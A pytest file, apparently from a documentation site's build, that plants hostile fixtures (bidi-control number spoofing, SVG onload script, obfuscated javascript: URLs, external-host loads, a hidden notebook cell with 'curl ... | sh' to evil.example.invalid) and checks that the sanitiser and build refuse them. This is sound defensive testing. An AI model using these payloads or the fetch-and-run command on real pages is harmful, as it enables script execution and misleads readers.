    jp = b'<?xml version="1.0" encoding="ISO-2022-JP"?><svg><scr\x1b(Bipt>go()</script></svg>'
    (tmp_path / "img" / "jp.svg").write_bytes(jp)
    with pytest.raises(PluginError) as error:
        hooks.check_static_documents(tmp_path)
    assert str(error.value).splitlines() == [
        "img/jp.svg: an escape byte or a declared encoding other than UTF-8: save it as UTF-8 and declare none",
        "img/wide.svg: not plain UTF-8 (a NUL byte or an invalid sequence): save it as UTF-8 without a byte-order mark",
    ]


BIDI_WHY = (
    "it makes a browser draw the text around it in another order than the page holds "
    "(0.66<U+202E>25<U+202C> shows 0.6652 where every check reads 0.6625), and the site has no "
    "right-to-left text: delete it"
)
BDO_WHY = (
    'it draws its text in another order than the page holds (0.66<bdo dir="rtl">25</bdo> shows 0.6652 '
    "where every check reads 0.6625), and the site has no right-to-left text: write the characters in the "
    "order they are read"
)
RLO = "\u202e"
PDF = "\u202c"


@pytest.mark.build
def test_bidirectional_controls_bdo_and_dir_fail_the_build_with_file_and_line(tmp_path):
    """Security re-review 6b, T1: U+202E (in prose, a display fence, a notebook cell) and
    <bdo dir="rtl"> showed 0.6652 where the prose check read 0.6625, found it verified, and passed."""
    page = (
        "# Bidi\n\n"
        f"A: the weight is 0.66{RLO}25{PDF}.\n\n"
        'B: the weight is 0.66<bdo dir="rtl">25</bdo>.\n\n'
        'C: <span dir="rtl">0.6652</span>\n\n'
        "D: the weight is 0.66&#x202e;25&#x202c;.\n\n"
        "```text\n"
        f"weight: {RLO}1233.0{PDF}\n"
        "```\n\n"
        "```python\n"
        "x = 1  # \u2066 isolated\n"
        "```\n"
    )
    result, _ = build(tmp_path, {"bidi.md": page}, config=SITE_MARKDOWN)
    assert result.returncode != 0
    (tmp_path / "nb").mkdir()
    notebook = f"# %% [markdown]\n# # Bidi\n#\n# The weight is 0.66{RLO}25.\n"
    in_notebook, _ = build(tmp_path / "nb", {"notebooks/bidi.py": notebook})
    assert in_notebook.returncode != 0
    err = result.stderr + in_notebook.stderr
    control = "a bidirectional control character (U+202E RIGHT-TO-LEFT OVERRIDE)"
    for message in [
        f"docs/bidi.md:3: {control}: {BIDI_WHY}",
        f"docs/bidi.md:5: <bdo>: {BDO_WHY}",
        f'docs/bidi.md:7: dir="rtl" on <span>: {BDO_WHY}',
        "docs/bidi.md:9: a bidirectional control character (U+202E RIGHT-TO-LEFT OVERRIDE, written '&#x202e;'): "
        + BIDI_WHY,
        f"docs/bidi.md:12: {control}: {BIDI_WHY}",
        f"docs/bidi.md:16: a bidirectional control character (U+2066 LEFT-TO-RIGHT ISOLATE): {BIDI_WHY}",
        f"docs/notebooks/bidi.py:4: {control}: {BIDI_WHY}",
    ]:
        assert message in err, f"{message}\n{err[-4000:]}"


@pytest.mark.build
def test_a_notebook_loses_bidirectional_controls_bdo_and_dir(tmp_path):
    """Security re-review 6b, T1: nh3 kept <bdo dir="rtl"> and U+202E in a notebook's cells and outputs."""
    notebook = (
        "# %% [markdown]\n# # Bidi\n#\n"
        '# The weight is 0.66<bdo dir="rtl">25</bdo>, <span dir="rtl">x</span>.\n\n'
        "# %%\nprint('0.66' + chr(0x202E) + '25' + chr(0x202C))\n"
    )
    result, site = build(tmp_path, {"notebooks/bidi.py": notebook})
    assert result.returncode == 0, result.stderr[-3000:]
    html = (site / "notebooks" / "bidi" / "index.html").read_text(encoding="utf-8")
    notebook_part = html[html.index('<div class="jupyter-wrapper">') :]
    assert "The weight is 0.6625, <span>x</span>." in notebook_part
    assert "0.6625" in notebook_part.split("The weight is")[1]  # the output, without its controls
    assert not safety.BIDI_CONTROL.search(notebook_part) and "<bdo" not in notebook_part
    assert not re.search(r"\sdir=", notebook_part)


def test_the_sanitiser_drops_bidirectional_controls_bdo_and_dir():
    cleaned = safety._clean(f'<p>0.66<bdo dir="rtl">25</bdo>, 0.66{RLO}25{PDF} and <b dir="rtl">x</b>\u2067</p>')
    assert cleaned == "<p>0.6625, 0.6625 and <b>x</b></p>"


MATH_WHY = (
    "a page's formulas are TeX ($...$, \\(...\\)), which the build turns into MathML itself (hooks.mathml); "
    "MathML written by hand can hide part of a number from the reader (scriptlevel, mpadded, a <semantics> "
    "child after the first) while the checks read it: write the formula in TeX"
)


@pytest.mark.build
def test_mathml_written_by_hand_fails_the_build_with_file_and_line(tmp_path):
    """Security re-review 6b, T2: scriptlevel, mpadded voffset and a <semantics> child after the first
    hid part of a number (0.<math>...x...</math>2222 showed 0.2222) with no refused attribute."""
    page = """\
    # Hand-made MathML

    TeX is fine: $0.5 \\times x$ and \\(\\frac{a}{b}\\), and `<math>` in code.

    C: the weight is 0.<math><semantics><mi></mi><mtext>x</mtext></semantics></math>1111.

    D: the weight is 0.<math><mstyle scriptlevel="40"><mtext>x</mtext></mstyle></math>2222.

    H: the weight is 0.<math><mpadded width="0" voffset="1000em"><mtext>x</mtext></mpadded></math>7777.

    $$
    a + b
    $$
    """
    result, _ = build(tmp_path, {"math.md": page}, config=SITE_MARKDOWN)
    assert result.returncode != 0
    err = result.stderr
    for line in (5, 7, 9):
        assert f"docs/math.md:{line}: <math>: {MATH_WHY}" in err, f"line {line}\n{err[-3000:]}"
    assert "docs/math.md:3:" not in err and "docs/math.md:11:" not in err


@pytest.mark.build
def test_a_page_the_checks_do_not_read_and_a_file_of_an_unknown_suffix_fail_the_build(tmp_path):
    """Security re-review 6b, T3: a *.markdown page and a notebook page outside docs/notebooks/ (the include
    is matched from the right) were built, and no test read them. T4 (b): .xsd, .rng and .svgz files were
    copied as they are, never read, and served as XML or SVG: their script ran on the site's origin."""
    svgz = '<svg xmlns="http://www.w3.org/2000/svg" onload="document.documentElement.dataset.pwned=1"/>'
    xsd = '<?xml version="1.0"?>\n<data xmlns:h="http://www.w3.org/1999/xhtml"><h:script>go()</h:script></data>\n'
    files = {
        "zz/extra.markdown": "# Extra\n\nThe weight is 0.6652.\n",
        "zz/more.mkd": "# More\n",
        "zz/notebooks/sub.py": "# %% [markdown]\n# # Sub\n#\n# The weight is 0.4444.\n",
        "data/s.xsd": xsd,
        "data/s.rng": xsd,
        "img/a.svgz": svgz,
        "notebooks/fine.py": "# %% [markdown]\n# # Fine\n",
    }
    result, _ = build(tmp_path, files)
    assert result.returncode != 0
    err = result.stderr

    def unknown(name: str, suffix: str) -> str:
        return (
            f"docs/{name}: a file named *{suffix} is copied to the site as it is, where a browser may open it as a "
            "document that runs script on the site's origin, and no check reads it (docs/ holds .css, .html, .ipynb, "
            f".js, .md, .py, .svg): if the site needs it, add {suffix} to DOCS_SUFFIXES in docs/hooks/safety.py, "
            "and if a browser can open it as a document (HTML, SVG, XML: its type in mime-db), to DOCUMENT_SUFFIXES "
            "too, so that static_file_code reads it, with a planted test"
        )

    for message in [
        "docs/zz/extra.markdown: a Markdown page named *.markdown: MkDocs builds it, but the checks read *.md pages "
        "only (its prose numbers, its Python blocks and their outputs), so what it shows is never checked: rename "
        "it to extra.md",
        "docs/zz/more.mkd: a Markdown page named *.mkd: MkDocs builds it",
        "docs/zz/notebooks/sub.py: a notebook page (mkdocs-jupyter's include, matched from the right) outside the "
        "places the checks read (docs/notebooks/*.py, docs/exercises/*.ipynb), so its numbers would never be "
        "checked: move it to one of them",
        unknown("data/s.xsd", ".xsd"),
        unknown("data/s.rng", ".rng"),
        unknown("img/a.svgz", ".svgz"),
    ]:
        assert message in err, f"{message}\n{err[-4000:]}"
    assert "docs/notebooks/fine.py" not in err


def test_the_suffixes_under_docs_are_the_ones_the_site_has():
    """Re-review 6b, T4 (b): the allow-list holds what docs/ holds (and the static documents checked)."""
    present = {path.suffix for path in (ROOT / "docs").rglob("*") if path.is_file() and "__pycache__" not in path.parts}
    assert present <= safety.DOCS_SUFFIXES, present - safety.DOCS_SUFFIXES
    assert safety.DOCS_SUFFIXES - present <= {".svg"} | safety.HTML_SUFFIXES


def test_python_bytecode_under_docs_is_left_out_of_the_site():
    """The suffix allow-list refuses any file it does not know, so a companion module's
    __pycache__ (made by importing it from a reader's own script) would have failed the next
    build: mkdocs.yml's exclude_docs leaves it out, with MkDocs' own matcher (pathspec)."""
    import pathspec
    import yaml

    class Loader(yaml.SafeLoader):
        pass

    Loader.add_multi_constructor("tag:yaml.org,2002:python/", lambda loader, suffix, node: None)
    config = yaml.load((ROOT / "mkdocs.yml").read_text(encoding="utf-8"), Loader=Loader)
    excluded = pathspec.GitIgnoreSpec.from_lines(config["exclude_docs"].splitlines())
    assert excluded.match_file("chapters/__pycache__/scale.cpython-311.pyc")
    assert excluded.match_file("notebooks/__pycache__/first-look.cpython-311.pyc")
    assert not excluded.match_file("chapters/scale.md")


@pytest.mark.build
def test_a_script_in_a_static_svg_under_any_prefix_fails_the_build(tmp_path):
    """Security re-review 6b, T4 (a): <_:svg xmlns:_=... onload=...> (and a non-ASCII prefix) was text to
    html.parser and to the raw patterns, which wanted a letter after "<"; Chromium ran the onload."""
    files = {
        "img/p.svg": '<_:svg xmlns:_="http://www.w3.org/2000/svg" width="10" height="10" onload="go(1)"/>\n',
        "img/e.svg": '<?xml version="1.0"?>\n<é:svg xmlns:é="http://www.w3.org/2000/svg" onload="go(2)"/>\n',
        "img/f.svg": (
            '<svg xmlns="http://www.w3.org/2000/svg">\n<foreignObject width="10" height="10">'
            '<p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>\n</svg>\n'
        ),
        "img/broken.svg": '<svg xmlns="http://www.w3.org/2000/svg">\n<a:b/>\n</svg>\n',
        "img/fine.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="10"><rect width="1"/></svg>\n',
    }
    result, _ = build(tmp_path, files)
    assert result.returncode != 0
    err = result.stderr
    for where, what in [
        ("docs/img/p.svg:1", "onload= on <_:svg>"),
        ("docs/img/e.svg:2", "onload= on <é:svg>"),
        ("docs/img/f.svg:2", "<foreignObject>"),
        (
            "docs/img/broken.svg:2",
            "not well-formed XML (unbound prefix), which a browser shows as far as the error, running what comes "
            "before it, and which this check cannot read",
        ),
    ]:
        assert f"{where}: {what}: {STATIC_WHY}" in err, f"{where}:\n{err[-3000:]}"
    assert "fine.svg" not in err


@pytest.mark.parametrize(
    ("text", "found"),
    [
        # The XML parser names each element by its local name, whatever the prefix (re-review 6b, T4).
        ('<_:svg xmlns:_="http://www.w3.org/2000/svg"><_:handler>go()</_:handler></_:svg>', "<_:handler>"),
        ('<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:foreignObject/></x:svg>', "<x:foreignObject>"),
        ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:é="urn:x" é:onload="go()"/>', "é:onload= on <svg>"),
        (
            '<svg xmlns="http://www.w3.org/2000/svg"><a href="&#106;avascript:go()"/></svg>',
            "a javascript: URL in <a href>",
        ),
    ],
)
def test_a_static_xml_document_is_read_by_an_xml_parser(text, found):
    assert safety.static_file_code(text, "docs/img/x.svg")[0].startswith(f"docs/img/x.svg:1: {found}: {STATIC_WHY}")


STATIC_LOAD_WHY = "a file under docs/ that is not a page is opened in its own tab"

#: Security re-review 7b, V3: an SVG under docs/ that loads from another host when opened in its own tab.
LOADING_SVG = """\
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">
<rect fill="url(http://127.0.0.2:38111/fill.svg#g)"/>
<rect filter="url(http://127.0.0.2/filter.svg#f)"/>
<rect mask="url(//127.0.0.2/mask.svg#m)"/>
<rect cursor="url(http://127.0.0.2/cur.png), auto"/>
<path marker-start="url(http://127.0.0.2/marker.svg#k)"/>
<rect clip-path="url(http://127.0.0.2/clip.svg#c)"/>
<rect style="fill: url('http://127.0.0.2/style.svg#x')"/>
<style>rect { fill: url(http://127.0.0.2/css.svg#g) }</style>
<rect fill="&#117;rl(http://127.0.0.2/entity.svg#g)"/>
<image xlink:href="http://127.0.0.2/x.png"/>
<rect fill="url(#own)" mask="url( '#own' )"/><use href="#own"/>
</svg>
"""


@pytest.mark.build
def test_a_static_svg_that_loads_from_another_host_fails_the_build_naming_the_file_and_line(tmp_path):
    """Security re-review 7b, V3: fill=, mask=, clip-path=, marker-start= and cursor= with url(http://other/...)
    in a static .svg passed the build; Chromium, opening the SVG in its own tab (no policy there), requested all
    five from the other host. Any url() that is not the file's own #id, and any href to another host, fail."""
    result, _ = build(tmp_path, {"img/u.svg": LOADING_SVG, "p.md": "# P\n\n![figure](img/u.svg)\n"})
    assert result.returncode != 0
    err = result.stderr
    for line, what in [
        (2, "url('http://127.0.0.2:38111/fill.svg#g') in <rect fill>"),
        (3, "url('http://127.0.0.2/filter.svg#f') in <rect filter>"),
        (4, "url('//127.0.0.2/mask.svg#m') in <rect mask>"),
        (5, "url('http://127.0.0.2/cur.png') in <rect cursor>"),
        (6, "url('http://127.0.0.2/marker.svg#k') in <path marker-start>"),
        (7, "url('http://127.0.0.2/clip.svg#c') in <rect clip-path>"),
        (8, "url('http://127.0.0.2/style.svg#x') in <rect style>"),
        (9, "url('http://127.0.0.2/css.svg#g') in <style>"),
        (10, "url('http://127.0.0.2/entity.svg#g') in <rect fill>"),
        (11, "xlink:href='http://127.0.0.2/x.png' on <image> names another host"),
    ]:
        assert f"docs/img/u.svg:{line}: {what}: {STATIC_LOAD_WHY}" in err, f"{line}:\n{err[-3000:]}"
    assert "docs/img/u.svg:12" not in err  # the file's own elements


def test_a_url_in_any_attribute_of_a_page_is_a_load_too():
    """V3 on pages: the policy holds an inline SVG's fill="url(http://...)" back, and the build names it too."""
    page = '<p>x</p>\n<svg><rect fill="url(http://127.0.0.2/f.svg#g)" mask="url(#m)"/></svg>'
    assert safety.third_party_loads(page, "p.html") == [
        "p.html:2: <rect fill> url('http://127.0.0.2/f.svg#g') loads from another host"
    ]


PLANTED_COPY_TARGET = """\
# %% [markdown]
# # NB
#
# Install and run:
#
# <div id="cell-1" hidden>import os; os.system("curl -s https://evil.example.invalid/x | sh")</div>
# <span id="qkv-copy-0000000000000000-1">x</span> <clipboard-copy for="cell-1">y</clipboard-copy>

# %%
print("hello")
"""


def _copy_buttons(page: str) -> list[tuple[str, list[str]]]:
    """(what each copy button's ``for`` names, the text of every element with that id) in a built page."""
    from html.parser import HTMLParser

    fors: list[str] = []
    texts: dict[str, list[str]] = {}

    class Parser(HTMLParser):
        open: list[str | None] = []

        def handle_starttag(self, tag, attrs):
            values = dict(attrs)
            if tag == "clipboard-copy":
                fors.append(values.get("for") or "")
            if "id" in values:
                texts.setdefault(values["id"], []).append("")
            self.open.append(values.get("id"))

        def handle_endtag(self, tag):
            if self.open:
                self.open.pop()

        def handle_data(self, data):
            for name in self.open:
                if name is not None:
                    texts[name][-1] += data

    Parser().feed(page)
    return [(name, texts.get(name, [])) for name in fors]


@pytest.mark.build
def test_a_notebook_cell_cannot_take_a_code_cells_copy_target(tmp_path):
    """Security re-review 7b, V4: a markdown cell's <div id="cell-1" hidden>curl ... | sh</div> kept its id, and
    mkdocs-jupyter's copy button (<clipboard-copy for="cell-1">) copies the first element with that id: the page
    showed print("hello") and the button copied the planted command. Now every id a cell writes goes (a heading's
    stays), and each copy button names one element: the code it sits on."""
    result, site = build(tmp_path, {"notebooks/nb.py": PLANTED_COPY_TARGET})
    assert result.returncode == 0, result.stderr[-3000:]
    page = (site / "notebooks" / "nb" / "index.html").read_text(encoding="utf-8")
    buttons = _copy_buttons(page)
    # The code cell's button, and the one the markdown cell wrote (which copies the same code), each name one
    # element: the code shown.
    assert [texts for _, texts in buttons] == [['print("hello")']] * 2, buttons
    assert buttons[0][0].startswith("qkv-copy-") and 'id="cell-1"' not in page
    assert "qkv-copy-0000000000000000-1" not in page  # an id a cell writes goes, whatever it is
    assert 'import os; os.system("curl' in page  # the cell's text stays, as text without an id
    assert '<h1 id="nb">' in page  # a heading keeps its anchor


@pytest.mark.build
def test_a_notebook_cell_that_writes_the_templates_copy_target_fails_the_build(tmp_path):
    """V4: a cell that writes the template's exact markup would be renamed with it, and come first: refused."""
    notebook = PLANTED_COPY_TARGET.replace('<div id="cell-1" hidden>', '<div id="cell-1" class="clipboard-copy-txt">')
    result, _ = build(tmp_path, {"notebooks/nb.py": notebook})
    assert result.returncode != 0
    assert (
        'docs/notebooks/nb.py:6: <div id="cell-1" class="clipboard-copy-txt">: a notebook cell writes the markup '
        "of a code cell's copy target, so that cell's copy button would copy the cell's text instead of the code "
        "shown: delete it"
    ) in result.stderr, result.stderr[-3000:]


UNASSIGNED_WHY = (
    "a browser draws an unassigned code point of the default-ignorable ranges (U+2065, U+FFF0-U+FFF8, "
    "U+E0000-U+E0FFF) as nothing (0.66<U+2065>52 shows 0.6652 where a check that takes it for a separator "
    "reads 0.66 and 52), and no text needs one: delete it"
)


def test_an_invisible_unassigned_code_point_is_refused_at_its_line():
    """Security re-review 8b, W1: U+2065, U+FFF0-U+FFF8 and U+E0000-U+E0FFF (unassigned) are drawn as
    nothing inside a number; the build refuses them as it refuses the bidi controls: in a page's source
    (fences too), as a JSON escape in an .ipynb (a surrogate pair), as a character reference; the
    notebook sanitiser drops them."""
    page = "# X\n\nThe weight is 0.66\u206552.\n\n```text\nweight: 0.6\ufff8652\n```\n"
    assert safety.bidi_in_source(page, "docs/x.md") == [
        f"docs/x.md:3: an invisible unassigned code point (U+2065): {UNASSIGNED_WHY}",
        f"docs/x.md:6: an invisible unassigned code point (U+FFF8): {UNASSIGNED_WHY}",
    ]
    ipynb = '{\n "source": ["0.6\\udb40\\udc80652 and 0.6\\\\u2065 (an escaped backslash: text)"]\n}'
    assert safety.bidi_in_source(ipynb, "docs/exercises/e.ipynb", json_escapes=True) == [
        f"docs/exercises/e.ipynb:2: an invisible unassigned code point (U+E0080): {UNASSIGNED_WHY}"
    ]
    assert safety.authored_markup("<p>0.66&#x2065;52</p>", "docs/x.md", "# X\n\n0.66&#x2065;52\n") == [
        f"docs/x.md:3: an invisible unassigned code point (U+2065, written '&#x2065;'): {UNASSIGNED_WHY}"
    ]
    assert safety._clean("<p>0.66\u206552, 0.6\U000e0fff652</p>") == "<p>0.6652, 0.6652</p>"
    assert not safety.invisible_unassigned("\U000e0001")  # assigned (a tag: Cf), which the checks drop


#: Security re-review 8b, W2: SMIL animations that set an href to another host (Chromium fetched both).
ANIMATED_SVG = """\
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100">
 <image width="50" height="50"><set attributeName="href" to="http://127.0.0.2:38112/set-href.png"/></image>
 <image x="50"><animate attributeName="xlink:href" values="#a;http://127.0.0.2/anim.png" dur="1s"/></image>
 <use y="50"><s:set xmlns:s="http://www.w3.org/2000/svg" attributeName=" href" from="#g" by="other.svg#g"/></use>
 <image><set attributeName="href" to="#own"/><animate attributeName="width" values="1;2"/></image></svg>
"""


def test_an_svg_animation_that_sets_a_url_is_refused_in_a_static_file_and_in_a_page():
    """Security re-review 8b, W2: <set attributeName="href" to="http://..."> and <animate
    attributeName="xlink:href" values="..."> load from another host; static_file_loads read to/values
    only for javascript:, and third_party_loads not at all."""
    why = safety.STATIC_LOAD_WHY
    assert safety.static_file_loads(ANIMATED_SVG, "docs/img/a.svg") == [
        "docs/img/a.svg:2: <set attributeName='href' to='http://127.0.0.2:38112/set-href.png'> sets a URL, "
        f"not the file's own #id: {why}",
        "docs/img/a.svg:3: <animate attributeName='xlink:href' values='http://127.0.0.2/anim.png'> sets a URL, "
        f"not the file's own #id: {why}",
        f"docs/img/a.svg:4: <s:set attributeName='href' by='other.svg#g'> sets a URL, not the file's own #id: {why}",
    ]
    assert safety.third_party_loads(ANIMATED_SVG, "demo/b.html") == [
        "demo/b.html:2: <set attributeName='href' to='http://127.0.0.2:38112/set-href.png'> loads from another host",
        "demo/b.html:3: <animate attributeName='xlink:href' values='http://127.0.0.2/anim.png'> loads from another "
        "host",
    ]
    source = '# X\n\n<svg><image><set attributeName="href" to="img/local.png"/></image></svg>\n'
    assert safety.page_code(source.split("\n\n", 1)[1], "docs/x.md", source) == [
        "docs/x.md:3: <set attributeName='href' to='img/local.png'>: an SVG animation sets a link or a resource "
        "to another URL than the page's own #id, which the checks of what a page loads never see in its markup "
        "(security re-review 8b, W2): animate only to #id, or draw the figure in docs/javascripts/qkv.js"
    ]


def _first_in_head(html_text: str) -> tuple[str, dict]:
    """The first element inside the <head> an HTML parser finds (after <meta charset>), with its attributes."""
    from html.parser import HTMLParser

    found: list[tuple[str, dict]] = []

    class Parser(HTMLParser):
        in_head = False

        def handle_starttag(self, tag, attrs):
            if tag == "head":
                self.in_head = True
            elif self.in_head and not found and not (tag == "meta" and "charset" in dict(attrs)):
                found.append((tag, dict(attrs)))

    Parser().feed(html_text)
    return found[0]


@pytest.mark.parametrize(
    "before",
    ["<!-- the <head> holds only the charset -->", '<html data-x="<head>">', "<!-- <head> -->\n<html>"],
)
def test_the_policy_is_the_first_element_of_the_real_head(before):
    """Security re-review 8b, W3: with_csp put the policy after the first *text* match of <head, inside a
    comment or an attribute value before the real head, so a static HTML demo had no policy."""
    demo = f'<!doctype html>\n{before}<head><meta charset="utf-8"><title>d</title></head><body>x</body></html>\n'
    tag, attrs = _first_in_head(safety.with_csp(demo, "docs/demo/b.html"))
    assert (tag, attrs["http-equiv"]) == ("meta", "Content-Security-Policy")
    assert attrs["content"].startswith("default-src 'self'; script-src 'self';")


def test_a_static_html_with_content_before_its_head_is_refused():
    """Security re-review 8b, W3: a browser opens the head itself at the first content (and ignores a
    later <head> tag), so a policy put in that later tag would not hold."""
    for text, found in [("<!doctype html><p>x</p><head></head>", "<p>"), ("<!-- <head> --><html></html>", "no <head>")]:
        with pytest.raises(ValueError) as error:
            safety.with_csp(text, "docs/demo/c.html")
        assert str(error.value) == (
            f"docs/demo/c.html: {found + ' comes before any <head>' if found != 'no <head>' else found}, so there "
            "is no <head> to put the Content-Security-Policy <meta> at the top of (a <head> in a comment or an "
            "attribute value is no head, and a browser opens the head itself at the first content): start the "
            "file <!doctype html><html><head>"
        )


@pytest.mark.build
def test_a_hand_written_exercise_notebook_and_a_raw_cell_fail_the_build(tmp_path):
    """Security re-review 8b, W5: a hand-written docs/exercises/*.ipynb was checked against its stored
    outputs (forged: 0.6652 under print(round(0.66251, 4))) while the build ran it again; W4/W5: a raw
    cell (jupytext's `# %% [raw]`) was shown as HTML and read by nothing."""
    cells = [{"cell_type": "markdown", "metadata": {}, "source": ["# ZZ\n"]}]
    ipynb = json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
    result, _ = build(tmp_path, {"exercises/zz.ipynb": ipynb})
    assert result.returncode != 0
    assert (
        "docs/exercises/zz.ipynb: an .ipynb page that notebooks.py does not generate: the build runs it again and "
        "shows fresh outputs, while the prose check reads the outputs stored in the file, which can say anything "
        "(security re-review 8b, W5): add it to notebooks.EXERCISES and generate it (python docs/hooks/notebooks.py), "
        "or write it as a percent notebook under docs/notebooks/"
    ) in result.stderr, result.stderr[-3000:]
    (tmp_path / "nb").mkdir()
    notebook = '# %% [markdown]\n# # NB\n\n# %% [raw] raw_mimetype="text/html"\n# <p>C: the weight is 0.8888.</p>\n'
    raw, _ = build(tmp_path / "nb", {"notebooks/zz.py": notebook})
    assert raw.returncode != 0
    assert (
        "docs/notebooks/zz.py:5: a raw cell ('<p>C: the weight is 0.8888.</p>'): nbconvert shows its text as HTML, "
        "which the prose check never reads: make it a markdown cell"
    ) in raw.stderr, raw.stderr[-3000:]


@pytest.mark.build
def test_a_notebook_page_that_is_not_a_plain_percent_notebook_fails_the_build(tmp_path):
    """Security re-review 9b, X2, X3: a notebook page without cell markers (jupytext's light format), one
    whose header declares `format_name: light`, and one with markers jupytext reads its own way
    (`# %%[markdown]`, `# %% title [markdown]`, `# In[1]:`) built with rc 0, showing 0.6652 under the
    output 0.6625; the build refuses each, at its line, saying which two markers are allowed."""
    code = "\nprint(round(0.66251, 4))\n\n"
    light = "# ---\n# jupyter:\n#   jupytext:\n#     text_representation:\n#       format_name: light\n# ---\n\n"
    fixes = "start each cell at a line `# %%` (code) or `# %% [markdown]` (markdown), with no jupytext header"
    is_light = (
        "docs/notebooks/zz.py:1: jupytext reads this notebook page in its 'light' format (a jupytext header "
        "declares it, or there is no `# %%` cell marker), not as a percent notebook, the one form the rules for "
        f"notebook pages are written for (security re-review 9b, X2): {fixes} declaring another format"
    )
    allowed = "the two forms allowed are exactly `# %%` (a code cell) and `# %% [markdown]` (a markdown cell)"
    shapes = {
        "nomark": ("# # NB\n" + code + "# A: the weight is 0.6652.\n", [is_light]),
        "light": (light + "# %% [markdown]\n# # NB\n\n# %%" + code + "# A: the weight is 0.6652.\n", [is_light]),
        "bal": (
            "# %% [markdown]\n# # NB\n\n# %%" + code + "# %%[markdown]\n# The cell above prints 0.6625.\n\n"
            "# %% title [markdown]\n# A: the weight is 0.6652.\n\n# In[1]:\ny = 2\n",
            [
                f"docs/notebooks/zz.py:{line}: {form!r} looks like a cell marker, which jupytext reads its own way "
                f"(security re-review 9b, X3): {allowed}"
                for line, form in [(7, "# %%[markdown]"), (10, "# %% title [markdown]"), (13, "# In[1]:")]
            ],
        ),
    }
    for name, (notebook, messages) in shapes.items():
        (tmp_path / name).mkdir()
        result, _ = build(tmp_path / name, {"notebooks/zz.py": notebook})
        assert result.returncode != 0, name
        for message in messages:
            assert message in result.stderr, (name, result.stderr[-3000:])


def test_a_build_through_the_zygote_reports_what_python_m_mkdocs_reports(tmp_path):
    """tests/support/mkdocs_builds.py: the same status and the same messages as a plain
    ``python -m mkdocs build --strict``, on a planted fault and on a clean site."""
    for name, files in {
        "fault": {"a.md": "# A\n\n<img src='http://example.org/x.png' alt='x'>\n"},
        "clean": {"a.md": "# A\n\nText.\n"},
    }.items():
        (tmp_path / name).mkdir()
        forked, site = build(tmp_path / name, files)
        plain = subprocess.run(
            [sys.executable, "-m", "mkdocs", "build", "--strict", "--site-dir", str(site)],
            cwd=tmp_path / name,
            capture_output=True,
            text=True,
            timeout=300,
        )
        assert forked.returncode == plain.returncode == (1 if name == "fault" else 0)
        messages = [[line for line in r.stderr.splitlines() if not line.startswith("INFO")] for r in (forked, plain)]
        assert messages[0] == messages[1], messages
        assert (
            name == "clean"
            or "docs/a.md:3: <img src='http://example.org/x.png'> loads from another host" in forked.stderr
        )


#: Security re-review 9b, X1: a static HTML file whose comments a browser ends where Python's
#: html.parser does not: the parser then reads the real document as a comment.
EARLY_COMMENT_HTML = (
    '<!doctype html>\n<html lang="en"><!--><head><meta charset="utf-8"><title>d</title></head><body>\n'
    '<img src="http://127.0.0.2/c1.png" alt="x"><!-- --><head></body></html>\n'
)


@pytest.mark.parametrize("opener", ["<!-->", "<!--->", "<!-- x --!>", "<!-- x -- >"])
def test_a_comment_a_browser_ends_elsewhere_than_the_parser_is_refused_in_a_static_file(opener):
    text = EARLY_COMMENT_HTML.replace("<!-->", opener, 1)
    found = safety.static_file_code(text, "docs/demo/c.html")
    token = {"<!-->": "<!-->", "<!--->": "<!--->", "<!-- x --!>": "--!>", "<!-- x -- >": "-- >"}[opener]
    assert found[0] == f"docs/demo/c.html:2: {token!r}: {safety.COMMENT_WHY}"


@pytest.mark.parametrize(
    "href", ["java&#9;script:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)", "java&#10;script:x"]
)
def test_a_script_url_written_with_character_references_is_found(href):
    # The parser path reads this one when the file parses; here an early-closing comment hides the
    # tag from it, so the raw scan must decode the references itself.
    text = f'<!doctype html>\n<html><!--><head></head><body>\n<a href="{href}">x</a><!-- --></body></html>\n'
    found = [line for line in safety.static_file_code(text, "docs/demo/j.html") if ":3:" in line]
    assert found and found[0].startswith("docs/demo/j.html:3: 'javascript:' written with character references: ")


def test_a_static_html_file_with_an_early_ending_comment_fails_the_build(tmp_path):
    result, _ = build(tmp_path, {"demo/c1.html": EARLY_COMMENT_HTML})
    assert result.returncode == 1
    assert "docs/demo/c1.html:2: '<!-->': a browser and Python's html.parser" in result.stderr, result.stderr[-3000:]
